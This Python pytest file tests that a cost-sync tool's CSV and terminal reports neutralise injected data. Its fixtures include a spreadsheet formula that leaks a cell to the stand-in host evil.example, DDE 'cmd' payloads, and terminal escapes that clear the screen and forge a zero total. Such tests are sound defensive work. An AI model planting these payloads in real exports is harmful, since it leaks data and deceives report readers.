"""What reaches a spreadsheet or a terminal, on real PostgreSQL through the real command line:
formula injection in ``report --csv`` and ``attribution --csv``, terminal injection in ``report``,
``explain`` and ``attribution`` (issue 18, defects 5 to 8)."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import io
from decimal import Decimal, InvalidOperation

import asyncpg
import pytest

from cost_sync.cli import main as cli
from cost_sync.hostwinds.sandbox import SandboxServer, load_demo_fleet
from tests.integration.conftest import seed
from tests.integration.test_attribution import seed_platform

pytestmark = pytest.mark.db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07"
FORGED = "\nfleet monthly total $0.00 (all good)"
#: Row ids as they were found: each one a formula, and one that clears the screen and forges a line.
ODD_IDS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", f"9{ESCAPES}{FORGED}"]


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def assert_spreadsheet_safe(text: str) -> list[list[str]]:
    """Every cell that a spreadsheet would run is neutralised; numbers are left as numbers."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                assert _is_number(cell), f"formula cell {cell!r}"
    return rows


def assert_terminal_safe(text: str) -> None:
    """No control character but the newlines between lines; the forged line starts no line."""
    assert all(ch.isprintable() or ch == "\n" for ch in text), repr(text[:200])
    assert not any(line.startswith("fleet monthly total $0.00 (all good)") for line in text.splitlines())


async def _run(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], argv: list[str]) -> str:
    capsys.readouterr()
    code = await asyncio.to_thread(cli.main, argv)
    out = capsys.readouterr().out
    assert code in (0, 1), (argv, code)
    return out


async def test_report_and_explain_are_spreadsheet_and_terminal_safe(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A product name "=HYPERLINK(...)" with escape sequences, and row ids "=1+1", "+cmd|...",
    "-2+3", "@SUM..." and one that clears the screen and forges a total: report --csv neutralises
    every such cell (amounts stay numbers); report and explain show control characters escaped,
    one row per line."""
    fleet = load_demo_fleet()
    instances = [dict(i) for i in fleet.instances]
    instances[0]["product_name"] = HYPERLINK + ESCAPES + FORGED
    fleet = dataclasses.replace(fleet, instances=instances)
    conn = await asyncpg.connect(db_url)
    first = str(instances[0]["serviceid"])
    ids = await seed(conn, [(first, "active", None)])
    for odd in ODD_IDS:
        # Kept values the rows already had; these ids match no instance, so they stay unpriced.
        ids[odd] = await conn.fetchval(
            "INSERT INTO vps_instances (hostwinds_instance_id, status, approximate_cost, updated)"
            " VALUES ($1, 'active', 12.50, now()) RETURNING id",
            odd,
        )
    monkeypatch.setenv("COST_SYNC_DATABASE_URL", db_url)
    async with SandboxServer(fleet) as sandbox:
        monkeypatch.setenv("COST_SYNC_HOSTWINDS_URL", sandbox.url)
        monkeypatch.setenv("COST_SYNC_HOSTWINDS_API_KEY", fleet.api_key)
        monkeypatch.setenv("COST_SYNC_HOSTWINDS_REQUESTS_PER_SECOND", "0")
        await _run(monkeypatch, capsys, ["--once"])
        report_csv = await _run(monkeypatch, capsys, ["report", "--csv"])
        report_text = await _run(monkeypatch, capsys, ["report"])
        explained = [await _run(monkeypatch, capsys, ["explain", str(ids[odd])]) for odd in ODD_IDS]
        explained.append(await _run(monkeypatch, capsys, ["explain", first]))
    await conn.close()

    rows = assert_spreadsheet_safe(report_csv)
    unpriced = {row[1] for row in rows if row[0] == "unpriced"}
    assert {"'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= unpriced
    # Numbers stay numbers: the kept values and the fleet total are plain amounts.
    assert all(_is_number(row[2]) for row in rows if row[0] == "unpriced")
    assert rows[1][0] == "fleet_monthly_total"
    assert _is_number(rows[1][2])
    by_plan = [row for row in rows if row[0] == "by_plan"]
    assert any(row[4].startswith("'=HYPERLINK(") for row in by_plan)

    for text in (report_text, *explained):
        assert_terminal_safe(text)
    assert "\\e[2J" in report_text
    # One unpriced row, one line: the forged total is on the same line as its row id.
    lines = report_text.splitlines()
    assert any("9\\e[2J" in line and "\\nfleet monthly total $0.00" in line for line in lines)


async def test_attribution_is_spreadsheet_and_terminal_safe(
    db_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Tenant names "=HYPERLINK(...)" and one with an escape and a newline: attribution --csv
    neutralises the formula, the text views escape the control characters, one tenant per line."""
    await seed_platform(db_url)
    conn = await asyncpg.connect(db_url)
    tenants = await conn.fetch("SELECT id FROM tenants ORDER BY id")
    await conn.execute("UPDATE tenants SET name = $2 WHERE id = $1", tenants[0]["id"], HYPERLINK)
    forged = f"Acme{ESCAPES}{FORGED}"
    await conn.execute("UPDATE tenants SET name = $2 WHERE id = $1", tenants[1]["id"], forged)
    await conn.close()
    monkeypatch.setenv("COST_SYNC_DATABASE_URL", db_url)

    for by in ("tenant", "vps"):
        rows = assert_spreadsheet_safe(await _run(monkeypatch, capsys, ["attribution", "--csv", "--by", by]))
        names = {cell for row in rows for cell in row}
        assert "'" + HYPERLINK in names
        text = await _run(monkeypatch, capsys, ["attribution", "--by", by])
        assert_terminal_safe(text)
        assert any("Acme\\e[2J" in line and "\\nfleet monthly total" in line for line in text.splitlines())
    # Amounts in the CSV are numbers a spreadsheet sums.
    rows = list(csv.reader(io.StringIO(await _run(monkeypatch, capsys, ["attribution", "--csv"]))))
    header = rows[0]
    total = header.index("total")
    assert all(_is_number(row[total]) for row in rows[1:] if row[total])
